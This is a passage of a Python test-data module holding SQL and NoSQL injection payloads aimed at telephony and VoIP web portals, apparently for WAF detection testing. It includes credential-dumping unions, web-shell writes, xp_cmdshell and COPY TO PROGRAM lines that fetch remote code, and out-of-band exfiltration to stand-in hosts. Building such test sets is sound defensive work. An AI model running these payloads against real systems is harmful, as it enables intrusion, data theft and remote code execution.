"""Blind set "twohundredtwentyseventh": SQL and NoSQL injection aimed at the web front ends of telephony and
messaging platforms, with benign requests that carry the same words innocently.

The angle: telecom, VoIP and unified communications, recalled from memory. Payloads are written the way a tester
aims them at IP-PBX admin panels (Asterisk with FreePBX, Issabel, Elastix, 3CX), call-centre suites (VICIdial,
GOautodial), SIP provisioning servers and phone configuration lookups, voicemail and call-recording portals, CDR
and billing reports, SMS and USSD gateways, WebRTC softphones, Cisco and Avaya management pages, carrier self-care
portals and number-porting forms, using each system's own parameter names and quirks (extension, mailbox, MAC,
src/dst, uniqueid, campaign_id, msisdn). Each group carries a comment naming the system and the database it reaches
(MySQL/MariaDB behind FreePBX, Issabel and VICIdial; PostgreSQL behind billing and 3CX; SQL Server behind Cisco
and Avaya reporting; Oracle behind carrier BSS; SQLite on softphone gateways; MongoDB behind WebRTC and SMS APIs).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Whole MongoDB documents go as the JSON body; bracket operators
(`msisdn[$ne]=1`) go as raw `name=value` pairs. Payloads with control characters never go into headers, cookies
or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, telephony
products as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentyseventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams breaking out of a string or number
LIBINJECTION: list[Entry] = [
    # FreePBX extension lookup (config.php?display=extensions&extdisplay=), MySQL/MariaDB asterisk database
    "1001' or '1'='1",
    "1001 or 1=1",
    "1001')or('a'='a",
    # Issabel voicemail portal, mailbox parameter, MySQL
    "2001'||'1'='1",
    "2001' or 1-- -",
    # VICIdial agent screen, user and phone_login, MySQL asterisk db
    "6666' or 'x'='x'#",
    "phone1'or(1)#",
    # SIP provisioning lookup by MAC (/provision/?mac=), MySQL
    "0004f2a1b2c3' or ''='",
    "001565aabbcc'||1#",
    # CDR report src/dst filters (cdr.php), MySQL
    "5551234' or 1=1 limit 1#",
    "0)or(1=1",
    # 3CX-style call log, PostgreSQL
    "100' or true--",
    "100'or'1'::int=1--",
    # SMS gateway msisdn filter, SQLite on the gateway box
    "447700900123' or 1=1--",
    "-1 or 1",
    # USSD session menu (sessionId numeric), MySQL
    "99 or 2>1",
    "1 xor 1",
    # Cisco CUCM-like reporting page, SQL Server
    "1' or 1=1;--",
    "x' or 'a'<'b'--",
    # number porting form, Oracle carrier BSS
    "07700900456' or 1=1--",
    "' or 1=1 or ''='",
    # Avaya CMS web report, numeric skill id
    "12 or 1=1--",
    "12) or (1=1)--",
    # Elastix recordings uniqueid (float-looking), MySQL
    "1689012345.42' or '1",
    "1689012345.43 or 1=1",
    # GOautodial campaign_id, MySQL
    "CAMP01' or 1#",
    "CAMP01'or''='",
    "'||1||'",
]

# sql-tautology-boolean: always-true and true/false pairs
TAUTOLOGY: list[Entry] = [
    # FreePBX ring group filter (grpnum), MySQL
    "600' and 1=1-- -",
    "600' and 1=2-- -",
    "600 and 1=1",
    "600 and 1=0",
    # VICIdial list_id in the lead loader, MySQL
    "101 AND 2>1",
    "101 AND 'a'='a'",
    "101' AND 'b'='b",
    # carrier self-care portal msisdn, Oracle
    "447700900123' AND 1=1 AND 'a'='a",
    "447700900123' AND 1=2 AND 'a'='a",
    # CDR billing report accountcode, PostgreSQL
    "ACC42' and true and ''='",
    "ACC42' and false and ''='",
    "ACC42' and 1::boolean--",
    # SMS gateway sender id, SQLite
    "ALERTS' and 1=1 and 'x'='x",
    "ALERTS' or 2=2--",
    # call-recording portal date filter, MySQL
    "2024-06-01' or 'z'='z",
    "2024-06-01' and 3>2#",
    # Cisco unity voicemail admin, SQL Server
    "5001' and 1=1--",
    "5001' and 1=convert(int,1)--",
    # WebRTC softphone room id, MySQL
    "room7' and true#",
    "room7' and not false#",
    "room7' or not 0#",
    # USSD gateway short code, MySQL
    "*123# ' or 1 like 1#",
    "*100#' or 'a' regexp 'a'#",
    # Issabel queue stats, numeric
    "5000 or 5000=5000",
    "5000 and 5000=5001",
    "5000 or isnull(null)",
    # 3CX extension number, PostgreSQL
    "101' or 1 is not null--",
    "101' or 'a' is not distinct from 'a'--",
]

# sql-comment-sequence: cutting the rest of the query off with --, #, /* or ;%00
COMMENT: list[Entry] = [
    # FreePBX admin login (username), MySQL: password check commented away
    "admin'-- -",
    "admin'#",
    "admin'/*",
    "ampuser'-- ",
    # VICIdial vicidial.php VD_login, MySQL
    "6666'#",
    "6666'-- x",
    # Issabel voicemail mailbox PIN check, MySQL
    "2001'/*!*/#",
    "2001' -- comment",
    # SIP provisioning MAC, MySQL: the trailing "and enabled=1" dropped
    "0004f2a1b2c3'#",
    "0004f2a1b2c3';-- ",
    # CDR src filter, MySQL
    "5551234'-- -&dst=1",
    "5551234' limit 5#",
    # SMS gateway, SQLite
    "447700900123'--",
    "447700900123'/*",
    # 3CX PostgreSQL
    "101'--",
    "101';--",
    # Cisco CUCM user page, SQL Server
    "jsmith'--",
    "jsmith';--",
    # Avaya web login, SQL Server
    "craft'--",
    "dadmin'/*",
    # Oracle carrier portal
    "447700900999'--",
    "admin'||''--",
    # comment in the middle of the keyword stream, MySQL
    "1001'/**/or/**/1#",
    "1001'/*x*/and/*x*/0#",
    # trailing NUL after the comment
    "1001'-- \x00",
    # number-porting form, MySQL, ; then comment
    "07700900456';#",
    "07700900456')#",
    "07700900456'))-- -",
]

# union-select: extra rows from the PBX, billing and subscriber tables
UNION: list[Entry] = [
    # FreePBX extension page, MySQL asterisk db: SIP secrets
    "-1' union select id,data from sip where keyword='secret'-- -",
    "1001' union select extension,name,voicemail from users#",
    "0 union select 1,group_concat(id,0x3a,data) from sip where keyword='secret'",
    # FreePBX ampusers (admin panel accounts)
    "-1' union select username,password_sha1 from ampusers-- -",
    "' union all select username,password_sha1,sections from ampusers#",
    # VICIdial vicidial_users, MySQL
    "-1' union select user,pass,user_level from vicidial_users#",
    "0 union select user,pass from vicidial_users where user_level=9",
    # VICIdial leads, customer PII
    "-1 union select phone_number,first_name,last_name from vicidial_list",
    # Issabel/Elastix acl_user
    "' union select name,md5_password from acl_user-- -",
    "-1' union select 1,name,md5_password,4 from acl_user#",
    # CDR report, MySQL asteriskcdrdb
    "-1' union select calldate,src,dst,userfield from asteriskcdrdb.cdr#",
    "' union select null,recordingfile,null from cdr-- -",
    # SIP provisioning, MySQL: template dump
    "x' union select mac,sip_user,sip_password from endpoints#",
    # 3CX PostgreSQL
    "-1' union select null,username,password from users--",
    "' union select version(),current_user,null--",
    # billing portal, PostgreSQL (a2billing-like cc_card)
    "-1' union select username,useralias,uipass from cc_card--",
    "' union select login,pwd from cc_ui_authen--",
    # SMS gateway, SQLite
    "' union select name,sql from sqlite_master--",
    "-1 union select api_key,secret from accounts--",
    # Cisco reporting, SQL Server
    "-1' union select name,password_hash from sys.sql_logins--",
    "' union select @@version,null--",
    # Oracle carrier BSS
    "' union select username,password from dba_users--",
    "-1' union select msisdn,imsi,ki from subscribers--",
    "' union select banner,null from v$version--",
    # Avaya CMS, SQL Server
    "0 union select top 1 login,pwd from agents--",
    # WebRTC softphone, MySQL
    "room' union select ws_user,ws_secret from webrtc_users#",
    "' UNION DISTINCT SELECT 1,2,3#",
    "1001' union select 1,2,3,4,5,6,7-- -",
]

# stacked-queries: a second statement after ;
STACKED: list[Entry] = [
    # Cisco CUCM reporting, SQL Server
    "1; drop table callrecords--",
    "5001'; update users set pin='0000' where userid='ceo'--",
    "1'; insert into admins(login,pwd) values('x','x')--",
    "1; shutdown--",
    # Avaya CMS, SQL Server: new sysadmin login
    "1; create login pwn with password='P@ss1'; exec sp_addsrvrolemember 'pwn','sysadmin'--",
    "1; alter login sa enable--",
    # 3CX PostgreSQL
    "101'; update users set password='x' where username='admin';--",
    "101'; create table t(x text);--",
    "101'; drop table callhistory3;--",
    "1; select pg_sleep(0); delete from cdr;--",
    # FreePBX MySQL via PDO multi-statement
    "1001'; update ampusers set password_sha1=sha1('x') where username='admin';#",
    "1001'; insert into ampusers(username,password_sha1,sections) values('bk',sha1('x'),'*');#",
    "1; delete from sip where id='1001';#",
    "1; update sip set data='0.0.0.0/0.0.0.0' where keyword='permit';#",
    # VICIdial, MySQL
    "6666'; update vicidial_users set user_level=9 where user='6666';#",
    "101; truncate table vicidial_list;#",
    # SMS gateway, SQLite
    "1; attach database '/var/www/html/s.php' as s; create table s.t(x text);--",
    "1'; insert into outbox(number,text) values('+19005550100','x');--",
    # carrier billing, PostgreSQL
    "1; update cc_card set credit=9999 where username='me';--",
    "ACC42'; copy cdr to '/tmp/cdr.csv';--",
    # Oracle: anonymous block via a vulnerable PL/SQL proc
    "1'; begin execute immediate 'grant dba to portal'; end;--",
    # SQL Server, Cisco Unity
    "1; exec('sel'+'ect 1')--",
    "1;declare @s varchar(99);set @s='drop table voicemail';exec(@s)--",
    # number porting, MySQL
    "1; set global general_log=1;#",
    "1; rename table porting_requests to porting_old;#",
    "0; create user 'pbx'@'%' identified by 'x';#",
    "0; grant all on *.* to 'pbx'@'%';#",
    "1';select 1;select 2;--",
]

# time-based-blind: sleep, benchmark, pg_sleep, waitfor
TIME: list[Entry] = [
    # FreePBX extension, MySQL
    "1001' and sleep(5)-- -",
    "1001' or sleep(5)#",
    "1001 and (select 1 from (select sleep(5))a)",
    "1001'-if(1=1,sleep(5),0)-'",
    # VICIdial non-agent API (function=version&user=), MySQL
    "6666' and if(substr(user(),1,1)='r',sleep(5),0)#",
    "6666' and benchmark(5000000,md5(1))#",
    "6666' xor sleep(5) xor '",
    # Issabel voicemail, MySQL
    "2001' and (select*from(select(sleep(5)))x)-- -",
    "2001' rlike sleep(5)#",
    # SIP provisioning, MySQL
    "0004f2a1b2c3' and sleep(5) and 'a'='a",
    "0004f2a1b2c3'+sleep(5)+'",
    # CDR MySQL, GET numeric
    "1 and sleep(5)",
    "if(now()=sysdate(),sleep(5),0)",
    # 3CX PostgreSQL
    "101' and 1=(select 1 from pg_sleep(5))--",
    "101';select pg_sleep(5)--",
    "101' || pg_sleep(5)--",
    "1 and (select case when 1=1 then pg_sleep(5) end) is null",
    # billing PostgreSQL
    "ACC42' and (select count(*) from generate_series(1,5000000))>0--",
    # Cisco and Avaya, SQL Server
    "5001'; waitfor delay '0:0:5'--",
    "1; waitfor delay '00:00:05'--",
    "1 if (1=1) waitfor delay '0:0:5'--",
    "1'; if (select count(*) from sysobjects)>0 waitfor delay '0:0:5'--",
    # Oracle carrier BSS
    "447700900123' and 1=dbms_pipe.receive_message('a',5)--",
    "447700900123' and dbms_lock.sleep(5) is null--",
    # SQLite on SMS gateway
    "1 and 1=like('ABCDEFG',upper(hex(randomblob(300000000))))",
    "' and randomblob(500000000)--",
    # USSD gateway, MySQL
    "99' and sleep(if(ascii(mid(database(),1,1))>96,5,0))#",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,benchmark(5000000,sha1(1)))),1)",
]

# error-based: extractvalue, updatexml, convert, cast
ERROR: list[Entry] = [
    # FreePBX extension lookup, MySQL
    "1001' and extractvalue(1,concat(0x7e,version()))-- -",
    "1001' and updatexml(1,concat(0x7e,(select password_sha1 from ampusers limit 1)),1)#",
    "1001' and extractvalue(1,concat(0x7e,(select data from sip where keyword='secret' limit 1)))#",
    # VICIdial, MySQL
    "6666' and updatexml(null,concat(0x3a,(select pass from vicidial_users limit 1)),null)#",
    "6666' and (select 1 from(select count(*),concat(user(),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a)#",
    "1 and exp(~(select * from (select user())a))",
    "1 and geometrycollection((select * from (select * from (select user())a)b))",
    # Issabel, MySQL JSON function errors
    "2001' and json_keys((select convert((select database()) using utf8)))#",
    "2001' and gtid_subset(concat(0x7e,(select user())),1)#",
    # CDR, MySQL
    "-1 or extractvalue(rand(),concat(0x3a,(select recordingfile from cdr limit 1)))",
    "1 and updatexml(1,concat(0x5c,@@datadir),1)",
    # 3CX PostgreSQL
    "101' and 1=cast(version() as int)--",
    "101' and 1=cast((select password from users limit 1) as integer)--",
    "101'::int--",
    "1 and cast(current_database() as numeric)=1",
    # billing PostgreSQL
    "ACC42' and 1=cast((select string_agg(username||':'||uipass,',') from cc_card) as int)--",
    # Cisco, SQL Server
    "5001' and 1=convert(int,@@version)--",
    "5001' and 1=convert(int,(select top 1 name from sys.databases))--",
    "1 and 1=cast(db_name() as int)--",
    "5001' and 1=(select top 1 name from sysobjects where xtype='U')--",
    "1' having 1=1--",
    # Avaya, SQL Server
    "craft' and 1=convert(int,system_user)--",
    # Oracle carrier BSS
    "447700900123' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "447700900123' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "' and 1=xmltype('<'||(select user from dual)||':>')--",
    "' and 1=to_number((select password from sys.user$ where rownum=1))--",
    # SQLite on SMS gateway
    "1 and load_extension('x')",
    "' and 1=abs(-9223372036854775808)--",
]

# out-of-band: load_file, into outfile, xp_dirtree, utl_http, dblink
OOB: list[Entry] = [
    # FreePBX, MySQL: read config, write a web shell under /var/www/html
    "-1' union select load_file('/etc/freepbx.conf'),2-- -",
    "-1' union select load_file('/etc/asterisk/sip_additional.conf'),2#",
    "-1 union select load_file('/etc/amportal.conf')",
    "-1' union select '<?php system($_GET[c]);?>' into outfile '/var/www/html/admin/c.php'#",
    "1001' into outfile '/var/www/html/x.php' lines terminated by "
    "0x3c3f7068702073797374656d28245f4745545b635d293b3f3e#",
    "-1' union select 1,'<?=`$_GET[0]`?>' into dumpfile '/var/www/html/recordings/r.php'#",
    # Windows MySQL on a 3CX-adjacent host: UNC leak
    "1001' and load_file(concat('\\\\\\\\',(select password_sha1 from ampusers limit 1),'.x.oast.me\\\\a'))#",
    "1 and load_file('\\\\\\\\pbx.attacker.example\\\\share')",
    # VICIdial, MySQL
    "-1' union select load_file('/etc/astguiclient.conf'),2,3#",
    "-1' union select load_file('/var/spool/asterisk/monitor/MIX/x.wav'),2#",
    # Cisco, SQL Server
    "1; exec master..xp_dirtree '\\\\cucm.oast.me\\a'--",
    "1; exec master..xp_fileexist '\\\\x.oast.me\\a'--",
    "1; exec master..xp_subdirs '\\\\x.oast.me\\a'--",
    "1; declare @q varchar(99);set @q='\\\\'+db_name()+'.oast.me\\a';exec master..xp_dirtree @q--",
    "1; select * from openrowset(bulk 'c:\\windows\\win.ini',single_clob)a--",
    # Avaya, SQL Server linked server
    "1; select * from openrowset('SQLOLEDB','server=evil.example;uid=sa;pwd=x','select 1')--",
    # Oracle carrier BSS
    "447700900123' and utl_http.request('http://x.oast.me/'||(select user from dual)) is not null--",
    "' union select utl_http.request('http://bss.oast.me/'||user) from dual--",
    "' and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % e SYSTEM "
    "\"http://x.oast.me/\">%e;]>'),'/l') from dual) is not null--",
    "' and dbms_ldap.init((select user from dual)||'.oast.me',80) is not null--",
    # billing PostgreSQL
    "1; copy (select '') to program 'nslookup x.oast.me'--",
    "ACC42' and (select dblink_connect('host=x.oast.me user=a dbname=b'))='OK'--",
    "1; select * from dblink('host=x.oast.me user='||current_user,'select 1') as t(a int)--",
    "-1' union select pg_read_file('/etc/passwd'),null--",
    "1; copy cdr from '/etc/passwd'--",
    # SQLite SMS gateway
    "1; attach database '/var/www/html/sms/x.php' as p; create table p.q (d text); "
    "insert into p.q values('<?php system($_GET[c]);?>');--",
    "-1 union select readfile('/etc/kannel/kannel.conf')--",
    "-1 union select writefile('/var/www/html/c.php','<?php system($_GET[1]);?>')--",
]

# information-schema-probing: catalog walking for the PBX and billing schemas
CATALOG: list[Entry] = [
    # FreePBX, MySQL
    "-1' union select table_name,2 from information_schema.tables where table_schema='asterisk'-- -",
    "-1' union select column_name,2 from information_schema.columns where table_name='ampusers'#",
    "-1 union select group_concat(table_name) from information_schema.tables where table_schema=database()",
    "1001' and (select count(*) from information_schema.tables where table_schema='asteriskcdrdb')>0#",
    "-1' union select schema_name,2 from information_schema.schemata#",
    # VICIdial, MySQL
    "-1' union select group_concat(column_name),2 from information_schema.columns where table_name='vicidial_users'#",
    "6666' and exists(select * from information_schema.columns where column_name='pass')#",
    "-1 union select table_name from mysql.innodb_table_stats",
    "-1 union select table_name from sys.schema_table_statistics",
    # 3CX PostgreSQL
    "-1' union select table_name,null from information_schema.tables where table_schema='public'--",
    "-1' union select tablename,null from pg_tables--",
    "-1' union select relname,null from pg_class where relkind='r'--",
    "-1' union select usename,passwd from pg_shadow--",
    "-1' union select datname,null from pg_database--",
    # Cisco, SQL Server
    "-1' union select name,null from master..sysdatabases--",
    "-1' union select name,null from sysobjects where xtype='U'--",
    "-1' union select table_name,column_name from information_schema.columns--",
    "-1' union select name,null from sys.tables--",
    "5001' and 1=(select count(*) from sys.columns where name like '%pin%')--",
    # Avaya, SQL Server
    "-1 union select name,null from syscolumns where id=object_id('agents')--",
    # Oracle carrier
    "' union select table_name,null from all_tables--",
    "' union select column_name,null from all_tab_columns where table_name='SUBSCRIBERS'--",
    "' union select owner,table_name from all_tables where rownum<50--",
    "' union select username,null from all_users--",
    # SQLite SMS gateway
    "' union select tbl_name,sql from sqlite_master where type='table'--",
    "-1 union select group_concat(name) from pragma_table_info('outbox')--",
    "-1 union select sql from sqlite_schema--",
    "1 and (select count(*) from information_schema.processlist)>0",
]

# mysql-comment-obfuscation: version comments and inline comments splitting keywords
MYCOMMENT: list[Entry] = [
    # FreePBX, MySQL/MariaDB
    "1001'/*!50000union*//*!50000select*/id,data/**/from/**/sip#",
    "-1/*!union*//*!select*/username,password_sha1/*!from*/ampusers",
    "-1'/*!12345UNION*//*!12345SELECT*/1,2#",
    "1001'/*!or*/1=1#",
    "1001'/*!and*/sleep(5)#",
    "-1 un/**/ion se/**/lect 1,2",
    "-1'/**/UNION/**/ALL/**/SELECT/**/user,pass/**/FROM/**/vicidial_users#",
    "-1'%0aunion%0aselect%0a1,2#",
    "-1' /*!00000union all*/ /*!00000select*/ 1,2#",
    "6666'/*!50000and*/(select/**/1/**/from/**/(select/**/sleep(5))x)#",
    "-1' union/*&dst=*/select/*&src=*/1,2#",
    "-1'/*!50000%55nIoN*//*!50000%53eLeCt*/1,2#",
    "1001' /*!30000or*/ 1=1 -- -",
    "-1' union%23%0aselect 1,2#",
    "-1' union-- x\nselect 1,2#",
    "-1' union#x\nselect user,pass from vicidial_users#",
    "2001'/*!*/or/*!*/'1'='1",
    "-1 /*!union*/ /*!distinct*/ /*!select*/ 1,2",
    "-1'/*!40101union*//*!40101select*/group_concat(table_name),2/*!40101from*/information_schema.tables#",
    "0004f2a1b2c3'/*!or*/'a'='a",
    "1001'/**//*!50000and*//**/extractvalue(1,concat(0x7e,user()))#",
    "-1'UnIoN/**/SeLeCt/**/1,2#",
    "-1' uNiOn aLl sElEcT 1,2-- -",
    "1/*!50000or*/1",
    "-1'/*!union*/(/*!select*/1),(/*!select*/2)#",
    "1001'/*--*/or/*--*/1#",
    "-1' union /*!50000select*/ load_file(0x2f6574632f667265657062782e636f6e66),2#",
    "-1'/*!50000union*/select~1,2#",
]

# function-based-probing: substring, ascii, char, concat, length
FUNCTION: list[Entry] = [
    # FreePBX, MySQL: extracting a SIP secret byte by byte
    "1001' and ascii(substring((select data from sip where keyword='secret' limit 1),1,1))>64#",
    "1001' and substr((select password_sha1 from ampusers limit 1),1,1)='a'#",
    "1001' and mid(version(),1,1)='1'#",
    "1001' and length(database())=8#",
    "1001' and ord(mid(user(),1,1))=114#",
    # VICIdial, MySQL
    "6666' and left((select pass from vicidial_users where user='6666'),1)='1'#",
    "6666' and right(database(),3)='isk'#",
    "-1' union select concat(user,0x3a,pass),2 from vicidial_users#",
    "-1' union select concat_ws(0x3a,user,pass,user_level),2 from vicidial_users#",
    "6666' and char_length(user())>5#",
    # Issabel, MySQL
    "2001' and locate('root',user())=1#",
    "2001' and instr(version(),'Maria')>0#",
    # 3CX PostgreSQL
    "101' and ascii(substr(current_user,1,1))=112--",
    "101' and chr(65)||chr(66)='AB'--",
    "101' and position('p' in current_user)=1--",
    "101' and length(current_database())>2--",
    # Cisco, SQL Server
    "5001' and ascii(substring(db_name(),1,1))>64--",
    "5001' and unicode(substring(system_user,1,1))=115--",
    "5001' and len(@@servername)>1--",
    "5001' and char(115)+char(97)=system_user--",
    # Oracle carrier
    "447700900123' and ascii(substr((select user from dual),1,1))>64--",
    "447700900123' and substr(user,1,1)='S'--",
    "' and length((select password from sys.user$ where rownum=1))>10--",
    # SQLite SMS gateway
    "1 and unicode(substr((select api_key from accounts limit 1),1,1))>48",
    "1 and substr(sqlite_version(),1,1)='3'",
    "' and hex(substr((select secret from accounts),1,1))='41'--",
    # USSD gateway, MySQL
    "99 and bit_length(user())>0",
    "99 and strcmp(left(user(),1),'r')=0",
]

# sql-authentication-bypass: login forms of telephony portals
AUTH: list[Entry] = [
    # FreePBX admin login (username/password), MySQL
    "admin' or '1'='1",
    "admin'or 1=1#",
    "' or 1=1 limit 1-- -",
    "admin') or ('1'='1'-- -",
    # VICIdial agent login
    "' or user_level='9'#",
    "6666' or user_level>8#",
    # Issabel/Elastix web login
    "admin'-- -&input_pass=x",
    "') or 1=1#",
    # 3CX management console, PostgreSQL
    "admin' or 'a'='a'--",
    "' or true--",
    # voicemail web PIN login, mailbox + password
    "2001' or 'x'='x'#",
    "' or mailbox like '2%'#",
    # carrier self-care login by msisdn, Oracle
    "447700900123' or 'a'='a'--",
    "' or rownum=1--",
    # Cisco CUCM/Unity admin login, SQL Server
    "administrator'--",
    "' or 1=1--",
    "admin' or ''='",
    # Avaya Aura web, SQL Server
    "init'--",
    "' or 'a'='a'--",
    # known-hash trick: union a row with a password we know
    "x' union select 1,'admin','d033e22ae348aeb5660fc2140aec35850c4da997'#",
    "' union select 'admin',md5('x')#",
    # SMS gateway API login, SQLite
    "admin'--",
    "admin' or 1--",
    # GOautodial
    "goadmin' or '1'='1'#",
    "' or 1 in (1)#",
    # WebRTC softphone SIP-over-WS auth lookup, MySQL
    "1001'=0#",
    "'=''or'",
    "\\' or 1=1#",
]

# nosql-injection: MongoDB operators and $where in WebRTC, SMS and notification APIs
NOSQL: list[Entry] = [
    # WebRTC softphone login (Node/Express, MongoDB)
    ('{"extension":{"$ne":null},"password":{"$ne":null}}',) + JB,
    ('{"extension":"1001","password":{"$gt":""}}',) + JB,
    ('{"sipUser":{"$regex":"^10"},"sipPassword":{"$ne":"x"}}',) + JB,
    ('{"username":{"$in":["admin","root","3cxadmin"]},"password":{"$exists":true}}',) + JB,
    ('{"email":{"$regex":".*"},"password":{"$nin":[""]}}',) + JB,
    # SMS gateway REST API lookups
    ('{"msisdn":{"$gt":""},"apiKey":{"$ne":"a"}}',) + JB,
    ('{"msisdn":"447700900123","pin":{"$regex":"^1"}}',) + JB,
    ('{"$or":[{"msisdn":"x"},{"msisdn":{"$ne":"x"}}]}',) + JB,
    ('{"sender":{"$where":"1==1"}}',) + JB,
    # $where JavaScript: timing and data probes
    ('{"$where":"sleep(5000)||true"}',) + JB,
    ('{"$where":"this.pin.length==4"}',) + JB,
    ('{"$where":"this.password.match(/^a/)"}',) + JB,
    ('{"extension":"1001","$where":"function(){return true}"}',) + JB,
    ('{"$expr":{"$gt":[{"$strLenCP":"$password"},0]}}',) + JB,
    # voicemail transcription service, aggregation lookup
    ('{"mailbox":{"$lookup":{"from":"users","localField":"a","foreignField":"a","as":"x"}}}',) + JB,
    ('{"filter":{"callerId":{"$ne":""}},"limit":{"$gt":0}}',) + JB,
    # PHP/Express bracket operators in form bodies (provisioning and self-care portals)
    ("extension=1001&password[$ne]=x",) + KV,
    ("msisdn[$ne]=0&pin[$ne]=0",) + KV,
    ("username=admin&password[$regex]=^a",) + KV,
    ("mac[$regex]=.*&secret[$exists]=true",) + KV,
    ("user[$gt]=&pass[$gt]=",) + KV,
    ("mailbox[$nin][]=0&pin[$ne]=1",) + KV,
    ("login=admin&password[$where]=1",) + KV,
    # string-concatenated $where in a Mongo query built by the app
    "1001'; return true; var x='",
    "1001' || '1'=='1",
    "'; sleep(5000); '",
    "1001\" || this.pin != \"",
    "0;return this.password.length>0",
]

# hex-char-encoding: strings without quotes, keywords hidden in hex or char()
ENCODING: list[Entry] = [
    # FreePBX, MySQL
    "-1 union select data,2 from sip where keyword=0x736563726574",
    "-1 union select password_sha1,2 from ampusers where username=0x61646d696e",
    "1001' and user()=0x726f6f74406c6f63616c686f7374#",
    "-1 union select load_file(0x2f6574632f617374657269736b2f7369702e636f6e66),2",
    "-1 union select char(60,63,112,104,112),2",
    "1001' and 1=(select 1 from ampusers where username=char(97,100,109,105,110))#",
    # VICIdial, MySQL
    "-1 union select pass,2 from vicidial_users where user=unhex('36363636')",
    "6666' and hex(user())=0x726f6f74#",
    "-1 union select x'61646d696e',2",
    "-1 union select 0b0110000101100100,2",
    # 3CX PostgreSQL
    "101' and current_user=chr(112)||chr(111)||chr(115)||chr(116)||chr(103)||chr(114)||chr(101)||chr(115)--",
    "101' and 1=(select 1 from users where username=$$admin$$)--",
    "101'; execute convert_from(decode('c2VsZWN0IDE=','base64'),'utf8');--",
    "-1' union select convert_from('\\x61646d696e','utf8'),null--",
    # Cisco, SQL Server
    "1; declare @s varchar(200)=0x73656c65637420404076657273696f6e; exec(@s)--",
    "1;exec(char(115)+char(101)+char(108)+char(101)+char(99)+char(116)+char(32)+char(49))--",
    "1; declare @c nvarchar(99)=nchar(120)+nchar(112)+'_cmdshell'; exec @c 'whoami'--",
    "5001' and system_user=char(115)+char(97)--",
    # Oracle carrier
    "' and user=chr(83)||chr(89)||chr(83)--",
    "' union select utl_raw.cast_to_varchar2(hextoraw('61646d696e')),null from dual--",
    # SQLite SMS gateway
    "1 and (select api_key from accounts where name=char(97,100,109,105,110)) like '%'",
    "-1 union select X'3c3f706870',2",
    # percent-doubled and unicode-escaped quotes, CDR report
    "1001%27%20or%201%3D1%23",
    "1001%2527 or 1=1#",
    "1001\u02bc or 1=1#",
    "1001\uff07 or 1=1#",
    "1001&#39; or 1=1#",
    "1001\\x27 or 1=1#",
]

# stored-procedure-xp-cmdshell: command execution through the database
PROC: list[Entry] = [
    # Cisco reporting, SQL Server
    "1; exec master..xp_cmdshell 'whoami'--",
    "5001'; exec xp_cmdshell 'ping -n 1 x.oast.me'--",
    "1; exec sp_configure 'show advanced options',1; reconfigure; exec sp_configure 'xp_cmdshell',1; reconfigure--",
    "1; exec master.dbo.xp_cmdshell 'powershell -c iwr http://x.example/p.ps1|iex'--",
    "1; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\W3SVC','ImagePath'--",
    "1; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,'cmd /c whoami'--",
    "1; declare @o int; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,'calc'--",
    "1; exec sp_addlogin 'voip','x'--",
    "1; exec sp_password null,'x','sa'--",
    "1; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.asp','select 1'--",
    "1; exec master..sp_whodo--",
    "1; exec sp_executesql N'select * from agents'--",
    # Avaya CMS, SQL Server agent jobs
    "1; exec msdb..sp_add_job 'j'; exec msdb..sp_add_jobstep @job_name='j',@step_name='s',"
    "@subsystem='CmdExec',@command='whoami'--",
    "1; exec msdb.dbo.sp_start_job 'j'--",
    "1; exec sp_linkedservers--",
    "1; exec('xp_cmdshell ''net user''')--",
    # PostgreSQL billing and 3CX
    "1; create table o(t text); copy o from program 'id'; select * from o;--",
    "101'; copy (select 1) to program 'curl http://x.example/s|sh';--",
    "1; create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict;--",
    "1; do $$begin perform pg_sleep(0); end$$;--",
    # Oracle carrier BSS
    "' and dbms_java.runjava('oracle/aurora/util/Wrapper /bin/id') is not null--",
    "'; exec dbms_scheduler.create_job(job_name=>'x',job_type=>'EXECUTABLE',job_action=>'/bin/sh');--",
    "1; begin dbms_java.grant_permission('PORTAL','SYS:java.io.FilePermission','<<ALL FILES>>','execute'); end;--",
    # MySQL PBX: UDF
    "1; select sys_exec('id');#",
    "1; create function sys_eval returns string soname 'lib_mysqludf_sys.so';#",
    "1001'; call mysql.rds_kill(1);#",
    "1; select do_system('fwconsole chown');#",
    "1; exec master..xp_servicecontrol 'stop','MSSQLSERVER'--",
]

# having-group-order-by-probing: column counting and error leaks through clauses
ORDER: list[Entry] = [
    # CDR report sort parameter (order=calldate), MySQL
